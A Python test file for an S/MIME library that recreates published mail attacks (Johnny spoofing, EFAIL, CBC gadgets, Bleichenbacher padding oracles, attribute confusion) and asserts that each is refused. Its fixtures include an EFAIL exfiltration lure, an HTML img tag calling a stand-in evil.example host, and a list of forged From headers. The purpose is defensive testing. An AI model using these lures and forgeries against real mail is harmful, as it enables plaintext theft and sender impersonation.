"""Each published attack on S/MIME mail, by its name, made here from good mail and refused.

What others made of them is in tests/vectors (08a_johnny, 08b_covert, 08d_derived_attacks); every
kind's further forms are tested beside the code that refuses it.
"""

from __future__ import annotations

import gc
import re
from collections.abc import Callable, Iterator
from datetime import datetime
from typing import Any

import pytest

from smime_graph import (
    Contact,
    Identity,
    TrustStore,
    certs_only,
    decrypt,
    encrypt,
    examine,
    oids,
    seal,
    sign,
    unseal,
    verify,
)
from smime_graph.algorithms import SHA256
from smime_graph.asn1 import ber
from smime_graph.cms import attributes, enveloped_data, signed_data
from smime_graph.errors import (
    CertificateRejected,
    DecryptionFailed,
    MalformedMessage,
    SignatureInvalid,
    SmimeGraphError,
)
from smime_graph.findings import codes
from smime_graph.harness.forgeries.craft import der_of, mime_of, nodes, put, with_oid
from smime_graph.policy import EXCHANGE, RFC_8551
from smime_graph.smime.wrap import AUTH_ENVELOPED, ENVELOPED, SIGNED, pkcs7_mime

FROM = b"From: Alice <alice@contoso.com>\r\nTo: bob@contoso.com\r\n"
INNER = b"Content-Type: text/plain; charset=us-ascii\r\n\r\nthe figures\r\n"
LURE = b"Content-Type: text/html\r\n\r\n<img src='https://evil.example/?"
_CAREFUL = {"cms.signer.none", "smime.unsigned", "smime.errant-layer"}


def opaque(content: bytes, signer: Identity, now: datetime) -> bytes:
    der, _ = signed_data.sign(content, [signer], detached=False, policy=EXCHANGE, at=now)
    return pkcs7_mime(SIGNED, der)


def mixed(*parts: bytes) -> bytes:
    body = b"".join(b"--m\r\n" + one + b"\r\n" for one in parts)
    return FROM + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n" + body + b"--m--\r\n"


# --- Johnny, you are fired! (Mueller and others, 2019) -------------------------------------------


def test_johnny_content_confusion(alice: Identity, trust: TrustStore, now: datetime) -> None:
    """01-cms c1: a detached signature that carries another content, which was signed."""
    der = der_of(opaque(INNER, alice, now))
    raw = (
        FROM + b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";'
        b" micalg=sha-256; boundary=s\r\n\r\n--s\r\nContent-Type: text/plain\r\n\r\npay mallory\r\n"
        b"--s\r\n" + pkcs7_mime(SIGNED, der).replace(b"pkcs7-mime", b"pkcs7-signature")
    ) + b"\r\n--s--\r\n"
    report = examine(raw, trust=trust, at=now)
    assert not report.accepted
    with pytest.raises(MalformedMessage, match="content of its own"):
        verify(raw, trust=trust, at=now)


def test_johnny_many_signers(
    alice: Identity, mallory: Identity, trust: TrustStore, now: datetime
) -> None:
    """01-cms c2: one good signature, of somebody else than the author, beside a broken one."""
    der, _ = signed_data.sign(INNER, [mallory, alice], detached=False, policy=EXCHANGE, at=now)
    broken = bytearray(der)
    signers = signed_data.read(der).signers
    alices = next(one for one in signers if any(one.among([alice.certificate]))).signature
    broken[der.index(alices) + 9] ^= 1
    report = examine(FROM + pkcs7_mime(SIGNED, bytes(broken)), trust=trust, at=now)
    assert not report.accepted
    assert [one.accepted for one in report.signers] == [False, False]
    assert "cms.signature.invalid" in codes(report.errors)


def test_johnny_no_signer(alice: Identity, trust: TrustStore, now: datetime) -> None:
    """01-cms c3: certificates, and nobody who signed."""
    raw = FROM + certs_only([alice.certificate])
    report = examine(raw, trust=trust, at=now)
    assert (report.summary, report.accepted, report.signers) == ("unprotected", False, ())
    assert codes(report.errors) == ["cms.signer.none"]


@pytest.mark.parametrize("place", ["before", "behind", "wrapped", "attached"])
def test_johnny_text_beside_what_is_signed(
    alice: Identity, trust: TrustStore, now: datetime, place: str
) -> None:
    """03-mime: the signed part is one of several, or hidden in one."""
    signed = mime_of(sign(FROM + b"Subject: x\r\n" + INNER, signer=alice, at=now))
    text = b"Content-Type: text/html\r\n\r\npay mallory\r\n"
    raw = {
        "before": mixed(text, signed),
        "behind": mixed(signed, text),
        "wrapped": mixed(b"Content-Type: message/rfc822\r\n\r\n" + FROM + signed, text),
        "attached": mixed(
            text, b"Content-Disposition: attachment; filename=smime.p7m\r\n" + signed
        ),
    }[place]
    report = examine(raw, trust=trust, at=now)
    assert (report.summary, report.accepted, report.signers) == ("unprotected", False, ())
    assert set(codes(report.findings)) <= _CAREFUL
    assert "smime.errant-layer" in codes(report.findings)
    with pytest.raises(SignatureInvalid):
        verify(raw, trust=trust, at=now)


@pytest.mark.parametrize(
    "header",
    [
        b"From: alice@contoso.com\r\n",
        b"From: alice@contoso.com\r\nFrom: mallory@contoso.com\r\n",
        b"From: alice@contoso.com <mallory@contoso.com>\r\n",
        b"From: <alice@contoso.com>mallory@contoso.com\r\n",
        b"From: alice@contoso.com\0mallory@contoso.com\r\n",
        b"From: (mallory@contoso.com) alice@contoso.com\r\n",
        b"From: =?utf-8?q?alice=40contoso=2Ecom?=\r\nX-From: mallory@contoso.com\r\n",
        b"Subject: x\r\n",
        b"Sender: mallory@contoso.com\r\n",
    ],
)
def test_johnny_from_spoofing(
    mallory: Identity, trust: TrustStore, now: datetime, header: bytes
) -> None:
    """04-id: the signature is Mallory's, and a reader sees Alice; `test_sender` has more."""
    report = examine(header + opaque(INNER, mallory, now), trust=trust, at=now)
    assert not report.accepted
    assert "pki.address.mismatch" in codes(report.errors)


def test_the_signature_is_over_another_part(
    alice: Identity, trust: TrustStore, now: datetime
) -> None:
    """The parts of a multipart/signed exchanged, or a third one put in."""
    signed = sign(FROM + b"Subject: x\r\n" + INNER, signer=alice, at=now)
    match = re.search(rb'boundary="?([^"\r\n;]+)', signed)
    assert match is not None
    line = b"--" + match[1]
    head, first, second, end = signed.split(line)
    text = b"\r\nContent-Type: text/plain\r\n\r\npay mallory\r\n"
    assert verify(signed, trust=trust, at=now).signer is not None
    for parts in ([second, first], [text, second], [text, first, second], [first, second, text]):
        raw = line.join([head, *parts, end])
        report = examine(raw, trust=trust, at=now)
        assert not report.accepted
        assert report.errors


# --- EFAIL (Poddebniak and others, 2018), Covert Content (Mueller and others, 2019) ---------------


def test_efail_direct_exfiltration_and_covert_content(
    alice: Identity,
    bob: Identity,
    to_bob: Contact,
    message: bytes,
    trust: TrustStore,
    now: datetime,
) -> None:
    """What is decrypted is never joined to what stands beside it, nor quoted in an answer."""
    sealed = mime_of(seal(message, signer=alice, recipients=[to_bob], at=now))
    for raw in (
        mixed(LURE, sealed, b"Content-Type: text/html\r\n\r\n'>"),
        mixed(b"Content-Type: text/plain\r\n\r\nplease answer\r\n", sealed),
    ):
        report = examine(raw, identities=[bob], trust=trust, at=now)
        assert (report.summary, report.accepted) == ("unprotected", False)
        assert [(one.type, one.errant) for one in report.layers] == [("enveloped-data", True)]
        with pytest.raises(MalformedMessage):
            decrypt(raw, identities=[bob])
        with pytest.raises(SignatureInvalid):
            unseal(raw, identities=[bob], trust=trust, at=now)
        alone = unseal(raw, identities=[bob], trust=trust, at=now, part="1.2")
        assert b"evil" not in bytes(alone.content)


def test_efail_cbc_gadgets(
    alice: Identity,
    bob: Identity,
    to_bob: Contact,
    message: bytes,
    trust: TrustStore,
    now: datetime,
) -> None:
    """A changed block of CBC gives another text: no message of ours is accepted without a
    signature inside, and one that was signed shows the change.
    """
    for made in (
        encrypt(message, recipients=[to_bob], at=now),
        seal(message, signer=alice, recipients=[to_bob], at=now),
    ):
        der = der_of(made)
        ciphertext = bytes(enveloped_data.read(der).ciphertext)
        at = der.index(ciphertext)
        for place in (0, 16, len(ciphertext) // 2 & ~15):
            changed = bytearray(der)
            changed[at + place] ^= 0x20
            raw = FROM + pkcs7_mime(ENVELOPED, bytes(changed))
            report = examine(raw, identities=[bob], trust=trust, at=now)
            assert not report.accepted
            assert report.errors
            with pytest.raises(SmimeGraphError):
                unseal(raw, identities=[bob], trust=trust, at=now)
    opened = decrypt(encrypt(message, recipients=[to_bob], at=now), identities=[bob])
    assert not opened.report.authenticated
    assert "cms.unauthenticated" in codes(opened.findings)


@pytest.mark.parametrize("hides_tag", [True, False])
def test_authenticated_encryption_turned_into_cbc(
    bob: Identity,
    to_bob: Contact,
    message: bytes,
    trust: TrustStore,
    now: datetime,
    hides_tag: bool,
) -> None:
    """AEAD to CBC: GCM's counter mode read as a malleable cipher, with or without its tag."""
    der = der_of(encrypt(message, recipients=[to_bob], policy=RFC_8551, at=now))
    assert enveloped_data.read(der).authenticated
    root = ber.read(der, "x")
    cbc = ber.sequence(ber.oid(oids.AES256_CBC), ber.octet_string(bytes(16)))
    changed = put(root, with_oid(root, oids.AES256_GCM), cbc)
    kind = AUTH_ENVELOPED
    if hides_tag:
        kind = ENVELOPED
        _oid, explicit = ber.read(changed, "x")
        (inner,) = explicit
        _version, infos, content, _mac = inner
        as_enveloped = ber.sequence(ber.integer(2), bytes(infos.raw), bytes(content.raw))
        changed = ber.sequence(ber.oid(oids.ENVELOPED_DATA), ber.context(0, as_enveloped))
    raw = FROM + pkcs7_mime(kind, changed)
    report = examine(raw, identities=[bob], trust=trust, at=now)
    assert not report.accepted
    with pytest.raises(SmimeGraphError) as caught:
        unseal(raw, identities=[bob], trust=trust, at=now)
    assert b"figures" not in repr(vars(caught.value)).encode()


# --- Bleichenbacher (1998, RFC 3218), Vaudenay (2002) --------------------------------------------


def test_bleichenbacher_and_padding_oracles(bob_rsa: Identity, to_bob_rsa: Contact) -> None:
    """Whatever is wrong with the key or the padding: one error, and no trace of which."""
    seen = set()
    for policy in (EXCHANGE, RFC_8551):
        der = der_of(encrypt(FROM + INNER, recipients=[to_bob_rsa], policy=policy))
        enveloped = enveloped_data.read(der)
        key = enveloped.recipients[0].encrypted_key
        at_key, at_content = der.index(key), der.index(bytes(enveloped.ciphertext))
        end = at_content + len(enveloped.ciphertext) - 1
        for place in (at_key, at_key + 7, at_key + len(key) - 1, at_content, end, len(der) - 1):
            changed = bytearray(der)
            changed[place] ^= 1
            raw = FROM + pkcs7_mime(ENVELOPED, bytes(changed))
            try:
                opened = decrypt(raw, identities=[bob_rsa])
            except DecryptionFailed as error:
                told = (str(error), error.hint, error.__cause__, error.__context__)
                seen.add((type(error), *told, *map(str, error.args)))
            else:  # under CBC other text, of which nobody says that it is right
                assert not opened.report.authenticated
                assert not bytes(opened.content).endswith(INNER)
    assert len(seen) == 1


def test_bleichenbacher_substitution(bob_rsa: Identity, to_bob_rsa: Contact) -> None:
    """RFC 3218 2.3.2: a key that does not come out is replaced by chance, each time another."""
    der = der_of(encrypt(FROM + INNER, recipients=[to_bob_rsa]))
    key = enveloped_data.read(der).recipients[0].encrypted_key
    changed = der.replace(key, bytes(len(key) - 1) + b"\2")
    results = set()
    for _ in range(40):
        try:
            results.add(decrypt(pkcs7_mime(ENVELOPED, changed), identities=[bob_rsa]).content)
        except DecryptionFailed:
            results.add(b"")
    # one in 256 has a padding by chance; none is the text
    assert INNER not in results
    assert b"" in results


# --- what is signed is taken for something else --------------------------------------------------


def test_signed_attributes_as_content(alice: Identity, trust: TrustStore, now: datetime) -> None:
    """eprint 2023/1801: the attributes of a message, or of a countersignature, as the content of
    one that has none, under the signature that was made over them.
    """
    der = der_of(opaque(INNER, alice, now))
    (signer,) = signed_data.read(der).signers
    assert signer.signed_attributes is not None
    moved = b"\x31" + bytes(signer.signed_attributes.node.raw)[1:]
    root = ber.read(der, "x")
    for one in nodes(root):
        if one.tag == 0xA0 and one.raw == signer.signed_attributes.node.raw:
            without = put(root, one, b"")
    again = ber.read(without, "x")
    content = next(n for n in nodes(again) if n.tag == ber.OCTET_STRING and n.contents == INNER)
    forged = put(again, content, ber.octet_string(moved))
    report = examine(FROM + pkcs7_mime(SIGNED, forged), trust=trust, at=now)
    assert "cms.signature.invalid" not in codes(report.errors)  # it is good, and of something else
    assert not report.accepted
    assert "cms.attributes.confusable" in codes(report.errors)


def test_duplicate_attributes(alice: Identity, trust: TrustStore, now: datetime) -> None:
    """Two message digests: readers would not agree on which content was signed (RFC 5652 11.2)."""
    der = der_of(opaque(INNER, alice, now))
    (signer,) = signed_data.read(der).signers
    assert signer.signed_attributes is not None
    root = ber.read(der, "x")
    other = attributes.message_digest(SHA256.compute(b"pay mallory"))
    node = signer.signed_attributes.node
    target = next(n for n in nodes(root) if n.raw == node.raw and n.tag == node.tag)
    doubled = ber.tlv(target.tag, bytes(target.contents) + other)
    report = examine(FROM + pkcs7_mime(SIGNED, put(root, target, doubled)), trust=trust, at=now)
    assert not report.accepted
    assert "cms.attributes.duplicate" in codes(report.errors)


def test_a_signature_around_what_is_encrypted(
    alice: Identity,
    mallory: Identity,
    bob: Identity,
    to_bob: Contact,
    message: bytes,
    trust: TrustStore,
    now: datetime,
) -> None:
    """Who signs what they could not read is nobody's author: Mallory took Alice's signature off."""
    inside = mime_of(encrypt(message, recipients=[to_bob], at=now))
    raw = b"From: mallory@contoso.com\r\n" + opaque(inside, mallory, now)
    report = examine(raw, identities=[bob], trust=trust, at=now)
    assert not report.accepted
    assert "smime.signature-outside" in codes(report.errors)


def test_a_pinned_person_is_no_authority(mallory: Identity, alice: Identity, now: datetime) -> None:
    """A certificate that is believed for itself vouches for no other."""
    report = examine(FROM + opaque(INNER, alice, now), trust=TrustStore((mallory.certificate,)))
    assert not report.accepted
    with pytest.raises(CertificateRejected):
        unseal(FROM + opaque(INNER, alice, now), trust=TrustStore((mallory.certificate,)), at=now)


# --- nothing that was decrypted is kept by who refuses it -----------------------------------------


SECRET = b"the-secret-figures-of-november"


def _wrong_signer(people: dict[str, Any]) -> bytes:
    raw = seal(
        FROM.replace(b"alice", b"mallory") + b"Subject: x\r\n\r\n" + SECRET * 50 + b"\r\n",
        signer=people["mallory"],
        recipients=[people["to_bob"]],
        at=people["now"],
    )
    return raw.replace(b"mallory@contoso.com", b"alice@contoso.com", 1)


def _unsigned(people: dict[str, Any]) -> bytes:
    text = FROM + b"Subject: x\r\n\r\n" + SECRET * 50 + b"\r\n"
    return encrypt(text, recipients=[people["to_bob"]], at=people["now"])


@pytest.mark.parametrize("make", [_wrong_signer, _unsigned])
def test_no_plaintext_is_reachable_from_an_error_or_a_report(
    mallory: Identity,
    bob: Identity,
    to_bob: Contact,
    trust: TrustStore,
    now: datetime,
    make: Callable[[dict[str, Any]], bytes],
) -> None:
    raw = make({"mallory": mallory, "to_bob": to_bob, "now": now})
    report = examine(raw, identities=[bob], trust=trust, at=now)
    assert not report.accepted
    assert not list(_plaintext_below(report))
    with pytest.raises(SmimeGraphError) as caught:
        unseal(raw, identities=[bob], trust=trust, at=now)
    error = caught.value.with_traceback(None)
    assert not list(_plaintext_below(error))
    held = decrypt(raw, identities=[bob])
    assert list(_plaintext_below(held)), "the walk finds what is there"


def _plaintext_below(root: object) -> Iterator[object]:
    """Whatever octets or text are reachable and hold the secret, modules and classes left out."""
    seen = {id(root)}
    waiting = [root]
    while waiting:
        one = waiting.pop()
        if isinstance(one, (bytes, bytearray, memoryview)) and SECRET in bytes(one):
            yield one
        if isinstance(one, str) and SECRET.decode() in one:
            yield one
        for other in gc.get_referents(one):
            kind = type(other).__name__
            if id(other) not in seen and kind not in ("module", "type", "function", "frame"):
                seen.add(id(other))
                waiting.append(other)
